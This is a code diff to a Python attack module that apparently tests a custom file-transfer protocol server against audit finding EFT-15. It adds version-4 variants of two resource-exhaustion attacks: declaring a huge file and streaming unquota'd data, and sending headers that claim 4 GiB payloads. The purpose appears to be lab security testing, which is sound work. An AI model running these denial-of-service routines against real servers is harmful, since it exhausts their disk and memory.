@@ -10,6 +10,13 @@ much it wrote to its temporary directory.
 ``--mode fixed``: send an 825 header claiming a 4 GiB payload. A server that reads the
 declared size before judging it waits for (and buffers) 4 GiB. Success if the server
 keeps the connection open instead of refusing at once.
+
+``--protocol 4``: ``--mode file`` registers an identity of ours, declares a file of the
+largest size the server hello allows (1 TiB by default) and streams ``--send`` MiB of
+sealed 1 MiB records; version 4 has a per-file limit but no quota, so the server writes
+them to ``v4/partial/``. ``--mode fixed`` sends message 1's header claiming a 4 GiB
+payload, and, on a registered connection, a record header claiming 4 GiB: each must be
+refused from the header alone.
 """
 
 from __future__ import annotations
@@ -18,10 +25,12 @@ import argparse
 import os
 from pathlib import Path
 
-from eft_protocol.codes import REQUEST_HEADER, RequestCode, padded_size
+from eft_protocol.codes import REQUEST_HEADER, RequestCode, ResponseCode, padded_size
+from eft_protocol.v4.records import FileChunk, FileMeta, decode_resume
 
 from .common import AttackError, ConnectionClosed, Out, ServerLink, own_session
 from .framing import packet_frame
+from .v4 import V4Client, add_protocol_argument, meta_plaintext, own_identity, wait_closed
 
 FINDING = "EFT-15"
 SUMMARY = "declared sizes: a 4 GiB upload with no quota; a 4 GiB fixed-size request"
@@ -34,12 +43,75 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--mode", choices=("file", "fixed"), default="file")
     parser.add_argument("--send", type=int, default=16, help="MiB of the file to send (16)")
     parser.add_argument("--data-dir", help="the server's data directory (lab access)")
+    add_protocol_argument(parser)
 
 
-def temp_bytes(data_dir: str | None) -> int | None:
+def temp_bytes(data_dir: str | None, protocol: int = 3) -> int | None:
     if not data_dir:
         return None
-    return sum(p.stat().st_size for p in Path(data_dir, "tmp").glob("*") if p.is_file())
+    where = Path(data_dir, "tmp") if protocol == 3 else Path(data_dir, "v4", "partial")
+    return sum(p.stat().st_size for p in where.glob("**/*") if p.is_file())
+
+
+async def big_file_v4(args: argparse.Namespace, out: Out) -> bool:
+    client = await own_identity(args.target, f"big-{os.urandom(3).hex()}")
+    assert client.server_hello is not None
+    declared = client.server_hello.max_file_size
+    meta = FileMeta(1, declared, os.urandom(16), "huge.bin")
+    await client.request(RequestCode.SEND_FILE, meta_plaintext(meta))
+    code, plaintext = await client.response()
+    if code != ResponseCode.ACKNOWLEDGED:
+        await client.close()
+        return out.result(False, f"the server refused a {declared}-byte file ({code})")
+    _, start = decode_resume(plaintext)
+    chunk = bytes(MiB)
+    try:
+        for index in range(start, start + args.send):
+            await client.request(RequestCode.SEND_FILE, FileChunk(1, index, False, chunk).encode())
+        await client.link.receive(1.0)
+        verdict, accepted = "the server answered while the file was still arriving", False
+    except ConnectionClosed:
+        verdict, accepted = "the server closed the connection", False
+    except (ConnectionError, OSError) as exc:
+        verdict, accepted = f"the connection broke: {exc}", False
+    except AttackError:
+        verdict, accepted = "the server is still reading, silently", True
+    written = temp_bytes(args.data_dir, 4)
+    await client.close()
+    out.step(verdict, temp_bytes=written)
+    return out.result(
+        accepted,
+        f"declared a {declared} byte file and sent {args.send} MiB: {verdict}",
+        declared=declared,
+        sent=args.send * MiB,
+        temp_bytes=written,
+    )
+
+
+async def fixed_v4(args: argparse.Namespace, out: Out) -> bool:
+    link = await ServerLink.open(args.target)
+    header = REQUEST_HEADER.pack(bytes(16), 4, RequestCode.SEND_PUBLIC_KEY, 0xFFFFFFFF)
+    try:
+        await link.send(header + bytes(64 * 1024))
+        hello_closed, _ = await wait_closed(link)
+    finally:
+        await link.close()
+    client: V4Client = await own_identity(args.target, f"fixed-{os.urandom(3).hex()}")
+    try:
+        header = REQUEST_HEADER.pack(client.client_id, 4, RequestCode.SEND_FILE, 0xFFFFFFFF)
+        await client.link.send(header + bytes(64 * 1024))
+        record_closed, _ = await client.silence()
+    finally:
+        await client.close()
+    closed = hello_closed and record_closed
+    return out.result(
+        not closed,
+        "the server "
+        + ("closed both connections at once" if closed else "kept reading a 4 GiB claim"),
+        closed=closed,
+        hello_closed=hello_closed,
+        record_closed=record_closed,
+    )
 
 
 async def big_file(args: argparse.Namespace, out: Out) -> bool:
@@ -95,4 +167,6 @@ async def fixed(args: argparse.Namespace, out: Out) -> bool:
 
 
 async def run(args: argparse.Namespace, out: Out) -> bool:
+    if args.protocol == 4:
+        return await (big_file_v4(args, out) if args.mode == "file" else fixed_v4(args, out))
     return await (big_file(args, out) if args.mode == "file" else fixed(args, out))
